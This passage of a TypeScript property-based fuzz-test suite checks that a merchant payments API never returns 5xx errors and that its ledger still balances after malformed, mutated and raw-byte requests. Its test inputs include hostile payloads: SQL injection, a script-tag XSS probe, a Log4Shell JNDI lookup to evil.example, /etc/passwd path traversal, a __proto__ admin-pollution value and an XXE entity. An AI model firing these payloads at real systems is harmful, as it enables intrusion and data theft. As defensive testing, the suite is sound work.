        .tuple(fc.constantFrom(...INJECTION, ...UNICODE, ' ', '@', '.', '-'), fc.nat({ max: 200 }), types.length ? arbitraryFor(s) : fc.constant(null))
        .map(([splice, at, base]): Value => ({ splice, at, base: base as Json })),
    },
    { weight: 1, arbitrary: fc.constantFrom<Value>({ huge: 10_000, char: 'a' }, { huge: BODY_LIMIT - 4096, char: 'a' }, { huge: 100_000, char: '😀' }) },
    { weight: 1, arbitrary: fc.constantFrom<Value>({ deep: 33, shape: 'array' }, { deep: 100, shape: 'object' }, { deep: 10_000, shape: 'array' }) },
    { weight: 1, arbitrary: fc.constant<Value>({ wrap: true }) },
    { weight: limits.length ? 2 : 0, arbitrary: limits.length ? fc.constantFrom(...limits) : fc.constant<Value>({ v: null }) },
    // Another valid-by-schema value: valid alone, perhaps not with the rest of the request.
    { weight: types.length ? 2 : 0, arbitrary: arbitraryFor(s).map((v): Value => ({ v: v as Json })) },
  );
}

function mutationArbitrary(op: Operation): fc.Arbitrary<Mutation> {
  const arbs: Array<fc.WeightedArbitrary<Mutation>> = [];
  const objectPaths = [[] as Array<string | number>, ...op.bodyFields.filter((f) => objectSchema(f.schema)).map((f) => f.path)];
  if (op.bodyFields.length > 0) {
    const field = fc.constantFrom(...op.bodyFields);
    arbs.push(
      { weight: 3, arbitrary: field.map((f): Mutation => ({ kind: 'missing', where: 'body', path: f.path })) },
      { weight: 12, arbitrary: field.chain((f) => valueArbitrary(f).map((value): Mutation => ({ kind: 'set', where: 'body', path: f.path, value }))) },
      { weight: 2, arbitrary: fc.tuple(field, fc.constantFrom('upper', 'lower', 'swap', 'space') as fc.Arbitrary<'upper'>).map(([f, to]): Mutation => ({ kind: 'rename', where: 'body', path: f.path, to })) },
      {
        weight: 2,
        arbitrary: fc
          .tuple(fc.constantFrom(...objectPaths), fc.oneof(fc.constantFrom(...EXTRA_NAMES), fc.string({ unit: 'grapheme', maxLength: 12 })), valueArbitrary(undefined))
          .map(([parent, name, value]): Mutation => ({ kind: 'extra', where: 'body', parent, name, value })),
      },
      { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...op.bodyFields.filter((f) => f.path.length === 1).map((f) => String(f.path[0]))), valueArbitrary(undefined)).map(([name, value]): Mutation => ({ kind: 'duplicate', name, value })) },
    );
  }
  if (op.body || op.method !== 'GET') {
    const shapes = ['array', 'emptyArray', 'null', 'string', 'number', 'empty', 'emptyObject', 'upperKeys', 'lowerKeys', 'deep', 'single', 'truncated', 'bom', 'huge', 'tooLarge'] as const;
    arbs.push({ weight: 2, arbitrary: fc.constantFrom(...shapes).map((shape): Mutation => ({ kind: 'wholeBody', shape })) });
  } else {
    // A GET may carry a JSON body (E2): the same shapes, and the query as JSON.
    arbs.push({ weight: 1, arbitrary: fc.constantFrom('array', 'null', 'emptyObject', 'single', 'truncated', 'deep', 'tooLarge').map((shape): Mutation => ({ kind: 'wholeBody', shape: shape as 'array' })) });
  }
  if (op.query.length > 0) {
    const param = fc.constantFrom(...op.query);
    arbs.push(
      { weight: 2, arbitrary: param.map((p): Mutation => ({ kind: 'missing', where: 'query', path: [p.name] })) },
      { weight: 6, arbitrary: param.chain((p) => valueArbitrary({ path: [p.name], schema: p.schema }).map((value): Mutation => ({ kind: 'set', where: 'query', path: [p.name], value }))) },
      { weight: 1, arbitrary: fc.tuple(param, fc.constantFrom('upper', 'lower', 'swap', 'space') as fc.Arbitrary<'upper'>).map(([p, to]): Mutation => ({ kind: 'rename', where: 'query', path: [p.name], to })) },
    );
  }
  arbs.push(
    { weight: 1, arbitrary: fc.tuple(fc.oneof(fc.constantFrom(...EXTRA_NAMES), fc.string({ unit: 'grapheme', maxLength: 12 })), valueArbitrary(undefined)).map(([name, value]): Mutation => ({ kind: 'extra', where: 'query', parent: [], name, value })) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_QUERIES).map((text): Mutation => ({ kind: 'rawQuery', text })) },
    {
      weight: 4,
      // The headers every operation may read, and those the operation documents.
      arbitrary: fc
        .constantFrom(...new Set([...Object.keys(HEADER_VALUES), ...op.headers.map((h) => h.name.toLowerCase())]))
        .chain((name) =>
          fc
            .oneof(fc.constantFrom(...(HEADER_VALUES[name] ?? [null, '', 'x'.repeat(10_000), '\u00ff\u00fe', ...INJECTION])), fc.constant('fresh'))
            .map((value): Mutation => ({ kind: 'header', name, value: value === 'fresh' ? `fuzz-${uniq()}-key` : value })),
        ),
    },
  );
  return fc.oneof(...arbs);
}

/** One of each kind of mutation, run before the random ones so CI always covers every kind somewhere. */
function explicitMutations(op: Operation): Mutation[] {
  const out: Mutation[] = [];
  const fields = op.bodyFields;
  let i = 0;
  const next = () => fields[i++ % fields.length];
  if (fields.length > 0) {
    const values: Value[] = [
      { v: null },
      { v: { wrong: 'type' } },
      { v: 1e308 },
      { v: -1e308 },
      { raw: '-0' },
      { raw: '9007199254740993' },
      { v: 'NaN' },
      { raw: '123456789012345678901234567890' },
      { huge: (next().schema.maxLength ?? 200) + 1, char: 'x' },
      { huge: BODY_LIMIT - 4096, char: 'a' },
      { v: '😀\u202E\u0301' },
      { v: '\ud800' },
      { v: 'a\u0000b' },
      { v: "' or 1=1 --" },
      { v: '<script>alert(1)</script>' },
      { v: '${jndi:ldap://evil.example/a}' },
      { v: '../../etc/passwd' },
      { v: '%00' },
      { deep: 10_000, shape: 'array' },
      { wrap: true },
    ];
    out.push({ kind: 'missing', where: 'body', path: next().path });
    for (const f of fields.filter((f) => typesOf(f.schema).join() === 'string')) out.push({ kind: 'set', where: 'body', path: f.path, value: { splice: '\u0000', at: 1, base: fc.sample(arbitraryFor(f.schema), { numRuns: 1, seed: SEED })[0] as Json } });
    for (const value of values) out.push({ kind: 'set', where: 'body', path: next().path, value });
    out.push({ kind: 'rename', where: 'body', path: next().path, to: 'upper' });
    out.push({ kind: 'extra', where: 'body', parent: [], name: '__proto__', value: { v: { isAdmin: true } } });
    out.push({ kind: 'duplicate', name: String(fields[0].path[0]), value: { v: 'duplicate' } });
  }
  if (op.body) for (const shape of ['array', 'deep', 'upperKeys', 'tooLarge'] as const) out.push({ kind: 'wholeBody', shape });
  // Numbers Ajv's coercion made infinite (they skipped minimum and maximum and reached PostgreSQL).
  for (const f of fields.filter((f) => typesOf(f.schema).some((type) => type === 'integer' || type === 'number'))) out.push({ kind: 'set', where: 'body', path: f.path, value: { v: '-Infinity' } });
  for (const p of op.query) {
    out.push({ kind: 'missing', where: 'query', path: [p.name] });
    out.push({ kind: 'set', where: 'query', path: [p.name], value: { v: '\ud800' } });
    // NUL inside an otherwise valid value (an e-mail address matches [^\s@]+ with a NUL in it).
    out.push({ kind: 'set', where: 'query', path: [p.name], value: { splice: '\u0000', at: 1, base: fc.sample(arbitraryFor(p.schema), { numRuns: 1, seed: SEED })[0] as Json } });
    out.push({ kind: 'set', where: 'query', path: [p.name], value: { v: "' or 1=1 --" } });
    out.push({ kind: 'set', where: 'query', path: [p.name], value: { raw: '1e999' } });
  }
  out.push({ kind: 'rawQuery', text: '%ff%fe' });
  out.push({ kind: 'header', name: 'x-idempotency-key', value: 'short' });
  out.push({ kind: 'header', name: 'accept-language', value: 'ny' });
  out.push({ kind: 'header', name: 'merchantaccountnumber', value: '１２３４５６７８' });
  return out;
}

function materialize(value: Value, current: unknown, raws: string[]): unknown {
  if ('v' in value) return value.v;
  if ('raw' in value) {
    raws.push(value.raw);
    return PLACEHOLDER(raws.length - 1);
  }
  if ('huge' in value) return value.char.repeat(Math.max(0, value.huge));
  if ('deep' in value) {
    raws.push(value.shape === 'array' ? '['.repeat(value.deep) + ']'.repeat(value.deep) : '{"a":'.repeat(value.deep) + '1' + '}'.repeat(value.deep));
    return PLACEHOLDER(raws.length - 1);
  }
  if ('splice' in value) {
    const from = current ?? value.base ?? null;
    const text = from === null ? '' : typeof from === 'object' ? JSON.stringify(from) : String(from);
    const at = value.at % (text.length + 1);
    return text.slice(0, at) + value.splice + text.slice(at);
  }
  return [current ?? null];
}

/** The object at `path` in `root`, created (as an object) where missing. */
function containerAt(root: Record<string | number, unknown>, path: Array<string | number>): Record<string | number, unknown> {
  let node = root;
  for (const segment of path) {
    let child = node[segment];
    if (typeof child !== 'object' || child === null) {
      child = {};
      node[segment] = child;
    }
    node = child as Record<string | number, unknown>;
  }
  return node;
}

function renamed(name: string, to: 'upper' | 'lower' | 'swap' | 'space'): string {
  switch (to) {
    case 'upper':
      return name.toUpperCase();
    case 'lower':
      return name.toLowerCase();
    case 'swap':
      return [...name].map((c) => (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase())).join('');
    case 'space':
      return `${name} `;
  }
}

/** Query values are text: scalars as text, arrays as repeated parameters, objects as JSON. */
function queryValue(value: unknown, raws: string[]): string | string[] {
  if (typeof value === 'string') {
    const raw = /^__fuzz_raw_(\d+)__$/.exec(value);
    return raw ? raws[Number(raw[1])] : value;
  }
  if (Array.isArray(value)) return value.map((v) => (typeof v === 'string' ? v : JSON.stringify(v)));
  if (value === null) return '';
  return typeof value === 'object' ? JSON.stringify(value) : String(value);
}

function deepRename(value: unknown, f: (k: string) => string): unknown {
  if (Array.isArray(value)) return value.map((v) => deepRename(v, f));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [f(k), deepRename(v, f)]));
}

function applyMutation(op: Operation, p: Parts, m: Mutation): Parts {
  switch (m.kind) {
    case 'missing':
    case 'set':
    case 'rename': {
      if (m.where === 'query') {
        const name = String(m.path[0]);
        const current = p.query[name];
        if (m.kind === 'missing') delete p.query[name];
        else if (m.kind === 'set') p.query[name] = queryValue(materialize(m.value, current, p.raws), p.raws);
        else if (current !== undefined) {
          delete p.query[name];
          p.query[renamed(name, m.to)] = current;
        }
        return p;
      }
      if (typeof p.body !== 'object' || p.body === null) p.body = {};
      const parent = containerAt(p.body as Record<string, unknown>, m.path.slice(0, -1));
      const last = m.path[m.path.length - 1];
      const current = parent[last];
      if (m.kind === 'missing') delete parent[last];
      else if (m.kind === 'set') parent[last] = materialize(m.value, current, p.raws);
      else if (typeof last === 'string' && last in parent) {
        delete parent[last];
        parent[renamed(last, m.to)] = current;
      }
      return p;
    }
    case 'extra': {
      if (m.where === 'query') {
        p.query[m.name] = queryValue(materialize(m.value, undefined, p.raws), p.raws);
        return p;
      }
      if (typeof p.body !== 'object' || p.body === null) p.body = {};
      const parent = containerAt(p.body as Record<string, unknown>, m.parent);
      Object.defineProperty(parent, m.name, { value: materialize(m.value, undefined, p.raws), enumerable: true, configurable: true, writable: true });
      return p;
    }
    case 'duplicate': {
      // The same name twice in the JSON text, the added one first (JSON.parse keeps the last).
      const text = jsonText(p.body ?? {}, p.raws);
      const extra = `${JSON.stringify(m.name)}:${jsonText(materialize(m.value, undefined, p.raws), p.raws)}`;
      p.rawBody = text === '{}' ? `{${extra}}` : text.startsWith('{') ? `{${extra},${text.slice(1)}` : text;
      return p;
    }
    case 'wholeBody': {
      const body = op.body ? (p.body ?? {}) : p.query;
      const text = jsonText(body, p.raws);
      const deep = '['.repeat(10_000) + ']'.repeat(10_000);
      const bodies: Record<typeof m.shape, string> = {
        array: `[${text}]`,
        emptyArray: '[]',
        null: 'null',
        string: JSON.stringify(text),
        number: '42',
        empty: '',
        emptyObject: '{}',
        upperKeys: JSON.stringify(deepRename(body, (k) => k.toUpperCase())),
        lowerKeys: JSON.stringify(deepRename(body, (k) => k.toLowerCase())),
        deep,
        single: `'${text}'`,
        truncated: text.slice(0, Math.floor(text.length / 2)),
        bom: `\ufeff${text}`,
        huge: `${text.slice(0, -1)}${text.length > 2 ? ',' : ''}"padding":"${'a'.repeat(BODY_LIMIT - text.length - 64)}"}`,
        tooLarge: `${text.slice(0, -1)}${text.length > 2 ? ',' : ''}"padding":"${'a'.repeat(BODY_LIMIT + 1)}"}`,
      };
      p.rawBody = bodies[m.shape];
      if (!op.body && m.shape === 'tooLarge') p.rawBody = `{"padding":"${'a'.repeat(8192)}"}`;
      return p;
    }
    case 'rawQuery':
      p.rawQuery = m.text;
      return p;
    case 'header': {
      for (const h of Object.keys(p.headers)) if (h.toLowerCase() === m.name) delete p.headers[h];
      if (m.value !== null) p.headers[m.name] = m.value;
      return p;
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Valid requests: the registry's request, varied in ways that keep it valid.

interface Variation {
  texts: Array<[Array<string | number>, string]>;
  /** Property names re-cased (the API matches them case-insensitively). */
  recase: Array<[Array<string | number>, 'upper' | 'lower' | 'swap']>;
  /** Integers sent as JSON text ("12345678"): coerced. */
  integersAsText: boolean;
  extras: Record<string, Json>;
  acceptLanguage: string | null;
  idempotency: 'none' | 'fresh' | 'replay';
  scopeHeaders: boolean;
}

function variationArbitrary(op: Operation): fc.Arbitrary<Variation> {
  const texts = op.bodyFields.filter(isFreeText);
  const named = op.bodyFields.filter((f) => typeof f.path[f.path.length - 1] === 'string');
  // Fastify refuses "__proto__" and "constructor" keys anywhere (prototype poisoning): not valid.
  const safeJson = (fc.jsonValue({ maxDepth: 2, stringUnit: fc.constantFrom(...TEXT_CHARS) }) as fc.Arbitrary<Json>).filter((v) => !/"(__proto__|constructor)"/.test(JSON.stringify(v)));
  return fc.record({
    texts: texts.length ? fc.subarray(texts).chain((fs) => fc.tuple(...fs.map((f) => realText(Math.max(1, f.schema.minLength ?? 1), f.schema.maxLength ?? 60).map((text): [Array<string | number>, string] => [f.path, text])))) : fc.constant([]),
    recase: named.length ? fc.subarray(named, { maxLength: Math.min(3, named.length) }).chain((fs) => fc.tuple(...fs.map((f) => fc.constantFrom('upper', 'lower', 'swap').map((to): [Array<string | number>, 'upper' | 'lower' | 'swap'] => [f.path, to as 'upper'])))) : fc.constant([]),
    integersAsText: fc.boolean(),
    extras: fc.dictionary(fc.stringMatching(/^x_[a-z]{1,8}$/), safeJson, { maxKeys: 2 }),
    acceptLanguage: fc.constantFrom(null, 'ny', 'en', 'ny-MW, en;q=0.5', '*', 'fr-CH, fr;q=0.9', 'q=;;,'),
    idempotency: fc.constantFrom('none', 'fresh', 'replay'),
    scopeHeaders: fc.boolean(),
  });
}

function applyVariation(op: Operation, p: Parts, v: Variation, m: TestMerchant): void {
  const body = p.body as Record<string, unknown> | undefined;
  if (body) {
    for (const [path, text] of v.texts) {
      const parent = containerAt(body, path.slice(0, -1));
      const last = path[path.length - 1];
      if (last in parent) parent[last] = text;
    }
    if (v.integersAsText) {
      for (const f of op.bodyFields) {
        if (typesOf(f.schema).join() !== 'integer') continue;
        const parent = containerAt(body, f.path.slice(0, -1));
        const last = f.path[f.path.length - 1];
        if (typeof parent[last] === 'number') parent[last] = String(parent[last]);
      }
    }
    // Deepest first, so a parent's rename does not hide its children's paths.
    for (const [path, to] of [...v.recase].sort((a, b) => b[0].length - a[0].length)) {
      const parent = containerAt(body, path.slice(0, -1));
      const last = String(path[path.length - 1]);
      if (!(last in parent)) continue;
      const value = parent[last];
      delete parent[last];
      parent[renamed(last, to)] = value;
    }
    Object.assign(body, v.extras);
  }
  if (v.acceptLanguage !== null) p.headers['accept-language'] = v.acceptLanguage;
  if (v.idempotency !== 'none') p.headers['x-idempotency-key'] = `fuzz-valid-${uniq()}`;
  if (v.scopeHeaders && op.spec.auth === 'merchant') {
    p.headers['x-merchant-account-number'] = String(m.merchantAccountNumber);
    p.headers['x-organisation-id'] = m.organisationId.toLowerCase();
  }
}

// ---------------------------------------------------------------------------------------------
// The properties, operation by operation.

const seedOf = (op: Operation, salt: number) => (SEED + salt * 7919 + OPERATIONS.indexOf(op) * 104_729) | 0;

describe('contract fuzzing', () => {
  it('covers every operation of /openapi.json', () => {
    expect(OPERATIONS.length).toBeGreaterThan(60);
    expect(OPERATIONS.map((op) => op.name)).toContain(`POST ${BASE}/merchants/accounts/topup`);
    expect(OPERATIONS.map((op) => op.name)).toContain('POST /admin/v1/merchants');
  });

  describe.each(OPERATIONS.map((op) => [op.name, op] as const))('%s', (_name, op) => {
    it(
      'answers valid requests with success',
      async () => {
        await fc.assert(
          fc.asyncProperty(variationArbitrary(op), async (variation) => {
            const p = await baseParts(op, valid);
            applyVariation(op, p, variation, valid);
            const wire = toWire(op, p);
            const res = await send(op, wire);
            expect(res.statusCode, `${describeWire(wire)}\n→ ${res.body.slice(0, 400)}`).toBe(op.spec.status);
            stats.validOk.add(op.name);
            if (variation.idempotency === 'replay') {
              const again = await send(op, wire);
              if (again.headers['idempotent-replayed'] === 'true') {
                expect(again.statusCode).toBe(res.statusCode);
                expect(again.body).toBe(res.body);
              }
            }
          }),
          { seed: seedOf(op, 1), numRuns: VALID_RUNS },
        );
      },
      TEST_TIMEOUT,
    );

    it(
      'never answers 5xx to schema-generated requests bound to the test merchant',
      async () => {
        const identity = /^(merchantaccountnumber|organisationid|apikey|apisecret)$/i;
        let base: Parts | undefined;
        await fc.assert(
          fc.asyncProperty(
            op.body ? arbitraryFor(op.body) : fc.constant(undefined),
            fc.record(Object.fromEntries(op.query.map((q) => [q.name, arbitraryFor(q.schema)])), { requiredKeys: op.query.filter((q) => q.required).map((q) => q.name) }),
            fc.array(fc.boolean(), { minLength: op.bodyFields.length + op.query.length, maxLength: op.bodyFields.length + op.query.length }),
            async (body, query, keep) => {
              base ??= await baseParts(op, fuzzed);
              const p: Parts = { path: base.path, query: {}, body: structuredClone(body), headers: { ...base.headers }, raws: [] };
              // Identity fields always, and the existing ids and values of the valid request where told.
              op.bodyFields.forEach((f, i) => {
                const name = String(f.path[f.path.length - 1]);
                if (!identity.test(name) && !keep[i]) return;
                let from: unknown = base!.body;
                for (const segment of f.path) from = from && typeof from === 'object' ? (from as Record<string | number, unknown>)[segment] : undefined;
                if (from === undefined || (from !== null && typeof from === 'object')) return;
                if (typeof p.body !== 'object' || p.body === null) p.body = {};
                containerAt(p.body as Record<string, unknown>, f.path.slice(0, -1))[f.path[f.path.length - 1]] = from;
              });
              for (const [name, value] of Object.entries(query)) p.query[name] = queryValue(value, []);
              op.query.forEach((q, i) => {
                if ((identity.test(q.name) || keep[op.bodyFields.length + i]) && base!.query[q.name] !== undefined) p.query[q.name] = base!.query[q.name];
              });
              const res = await send(op, toWire(op, p));
              // A success consumed the valid request's state (a batch approved, a key deleted).
              if (res.statusCode < 300) base = undefined;
            },
          ),
          { seed: seedOf(op, 2), numRuns: SCHEMA_RUNS },
        );
      },
      TEST_TIMEOUT,
    );

    it(
      'never answers 5xx to a valid request mutated one field, parameter or header at a time',
      async () => {
        let base: Parts | undefined;
        const explicit = explicitMutations(op);
        await fc.assert(
          fc.asyncProperty(mutationArbitrary(op), async (mutation) => {
            base ??= await baseParts(op, fuzzed);
            const p = applyMutation(op, { path: base.path, query: { ...base.query }, body: structuredClone(base.body), headers: { ...base.headers }, raws: [] }, mutation);
            const res = await send(op, toWire(op, p));
            if (res.statusCode < 300) base = undefined;
          }),
          // Examples count towards numRuns: the random ones come on top.
          { seed: seedOf(op, 3), numRuns: RUNS + explicit.length, examples: explicit.map((m) => [m]) },
        );
      },
      TEST_TIMEOUT,
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Raw bytes over a real socket: what app.inject cannot express.

describe('raw bytes over a real socket', () => {
  const bodyOps = OPERATIONS.filter((op) => op.body);

  const cases: Array<[string, (text: string) => Buffer, string?]> = [
    ['invalid UTF-8 inside a string', (text) => Buffer.concat([Buffer.from(text.replace(/"([^"]*)"\s*}$/, '"')), Buffer.from([0xff, 0xfe, 0xc0, 0xaf]), Buffer.from('"}')])],
    ['a UTF-8-encoded lone surrogate', (text) => Buffer.concat([Buffer.from(`{"x":"`), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(`",${text.slice(1)}`)])],
    ['invalid UTF-8 outside strings', (text) => Buffer.concat([Buffer.from([0xff]), Buffer.from(text)])],
    ['an overlong encoding of "/"', (text) => Buffer.concat([Buffer.from(text.slice(0, -1) + ',"path":"..'), Buffer.from([0xc0, 0xaf]), Buffer.from('etc"}')])],
    ['truncated JSON', (text) => Buffer.from(text.slice(0, Math.max(1, text.length - 7)))],
    ['a BOM', (text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)])],
    ['UTF-16 text', (text) => Buffer.from(text, 'utf16le')],
    ['duplicate keys, the first valid', (text) => Buffer.from(text.replace(/^\{"([^"]+)":/, '{"$1":{"dup":true},"$1":'))],
    ['duplicate keys in other case', (text) => Buffer.from(text.replace(/^\{"([^"]+)":([^,}]+)/, (_m, k: string, v: string) => `{"${k.toUpperCase()}":"other","${k}":${v}`))],
    ['10,000-deep arrays', () => Buffer.from('['.repeat(10_000) + ']'.repeat(10_000))],
    ['10,000-deep objects in a field', (text) => Buffer.from(`${text.slice(0, -1)},"deep":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}`)],
    ['text/plain', (text) => Buffer.from(text), 'text/plain'],
    ['form-encoded', (text) => Buffer.from(`json=${encodeURIComponent(text)}`), 'application/x-www-form-urlencoded'],
    ['multipart', (text) => Buffer.from(`--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--x--\r\n`), 'multipart/form-data; boundary=x'],
    ['application/json; charset=utf-16', (text) => Buffer.from(text, 'utf16le'), 'application/json; charset=utf-16'],
    ['no content type', (text) => Buffer.from(text), ''],
    ['XML', () => Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), 'application/xml'],
  ];

  it('never answers 5xx, for every operation with a body', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    for (const op of bodyOps) {
      const p = await baseParts(op, fuzzed);
      const text = jsonText(p.body, []);
      for (const [label, bytes, contentType = 'application/json'] of cases) {
        const payload = bytes(text);
        const headers: Record<string, string> = Object.fromEntries(Object.entries(p.headers).map(([k, v]) => [k, String(v)]));
        if (contentType) headers['content-type'] = contentType;
        const res = await httpRequest(`http://127.0.0.1:${port}${p.path}`, { method: op.method as 'POST', headers, body: payload, headersTimeout: 20_000, bodyTimeout: 20_000 });
        const body = await res.body.text();
        count(op.name, res.statusCode);
        assertContract({ statusCode: res.statusCode, headers: res.headers, body }, `${op.name} over a socket: ${label} (${short(payload.toString('latin1'))})`);
      }
    }
  }, 120_000);

  it('answers 400 to an array of maxItems + 1 payouts, and 413 past the body limit', async () => {
    const op = OPERATIONS.find((o) => o.name === `POST ${BASE}/disbursements/batch/addJson`)!;
    const p = await baseParts(op, fuzzed);
    const body = p.body as { transactions: unknown[] };
    const maxItems = op.bodyFields.find((f) => f.path.join('.') === 'transactions')!.schema.maxItems!;
    const line = body.transactions[0] as Record<string, unknown>;
    body.transactions = Array.from({ length: maxItems + 1 }, (_, i) => ({ ...line, sourceReferenceNumber: `SRC${i}` }));
    const res = await send(op, toWire(op, p));
    expect(res.statusCode).toBe(400);
    const topup = OPERATIONS.find((o) => o.name === `POST ${BASE}/merchants/accounts/topup`)!;
    const big = applyMutation(topup, await baseParts(topup, fuzzed), { kind: 'wholeBody', shape: 'tooLarge' });
    expect((await send(topup, toWire(topup, big))).statusCode).toBe(413);
  }, 60_000);
});

// ---------------------------------------------------------------------------------------------
// What the fuzzing found, kept as plain cases.

describe('found by fuzzing', () => {
  const ADMIN = { authorization: `Bearer ${ADMIN_TOKEN}` };
  it.each([
    // Ajv coerces the strings "Infinity", "-Infinity" and "1e999" to ±Infinity, which passes an
    // integer's minimum and maximum; PostgreSQL then refused the statement (500).
    ['POST', `${BASE}/merchants/accounts/topup`, { connectorId: '-Infinity' }, 'merchant'],
    ['POST', `${BASE}/merchants/accounts/topup`, { connectorId: '1e999' }, 'merchant'],
    ['GET', `${BASE}/core/connectors/get?connectorId=Infinity`, undefined, 'merchant'],
    ['GET', `${BASE}/merchants/webhooks/get?merchantAccountNumber={m}&webhookId=-Infinity`, undefined, 'merchant'],
    ['GET', '/admin/v1/merchants?limit=1e999', undefined, 'admin'],
    ['GET', '/admin/v1/emails?pageNumber=1&numberOfReturnedRows=1e999', undefined, 'admin'],
    // The query parser's objects were not walked by the input guard: NUL reached PostgreSQL.
    ['GET', '/admin/v1/emails?pageNumber=1&numberOfReturnedRows=10&recipient=a%00b%40shop.mw', undefined, 'admin'],
  ] as const)('%s %s %j answers 400 E900', async (method, url, change, auth) => {
    const m = fuzzed;
    const topup: Record<string, unknown> = { merchantAccountNumber: m.merchantAccountNumber, connectorId: 212188, topupAmount: 1500, createdBy: 'ops@shop.mw' };
    const body = change && { ...topup, ...change };
    const res = await t.app.inject({ method, url: url.replace('{m}', String(m.merchantAccountNumber)), headers: auth === 'admin' ? ADMIN : { authorization: await bearerOf(m) }, payload: body });
    assertContract(res, `${method} ${url}`);
    expect(res.statusCode, res.body).toBe(400);
    expect(JSON.parse(res.body).errorCode).toBe('E900');
  });
});

// ---------------------------------------------------------------------------------------------
// Afterwards: healthy, still serving, and the books balance.

describe('after the run', () => {
  it('is ready, still serves normal requests, and the ledger invariants hold', async () => {
    const ready = await t.app.inject({ method: 'GET', url: '/health/ready' });
    expect(ready.statusCode).toBe(200);
    for (const m of [valid, fuzzed]) {
      const res = await t.app.inject({ method: 'GET', url: `${BASE}/merchants/accounts/get?merchantAccountNumber=${m.merchantAccountNumber}`, headers: { authorization: await bearerOf(m) } });
      expect(res.statusCode, res.body).toBe(200);
    }
    const topup = OPERATIONS.find((o) => o.name === `POST ${BASE}/merchants/accounts/topup`)!;
    expect((await send(topup, toWire(topup, await baseParts(topup, valid)))).statusCode).toBe(200);
    expect(await ledgerInvariants(t.db)).toEqual({ total: 0, mismatched: 0 });
    expect(OPERATIONS.filter((op) => !stats.validOk.has(op.name)).map((op) => op.name)).toEqual([]);
  });
});

afterAll(() => {
  const summary = {
    mode: LONG ? 'long' : 'ci',
    seed: SEED,
    runsPerOperation: RUNS,
    operations: OPERATIONS.length,
    operationsCovered: OPERATIONS.filter((op) => stats.covered.has(op.name)).length,
    operationsValidOk: stats.validOk.size,
    requests: stats.requests,
    '2xx': stats.s2xx,
    '4xx': stats.s4xx,
    other: stats.other,
    seconds: Math.round((Date.now() - started) / 100) / 10,
  };
  console.log(
    `fuzz: ${summary.operationsCovered}/${summary.operations} operations, ${summary.requests} requests (2xx ${summary['2xx']}, 4xx ${summary['4xx']}, other ${summary.other}), seed ${SEED}, ${summary.seconds} s`,
  );
  writeFileSync('.fuzz-summary.json', `${JSON.stringify(summary, null, 2)}\n`);
});
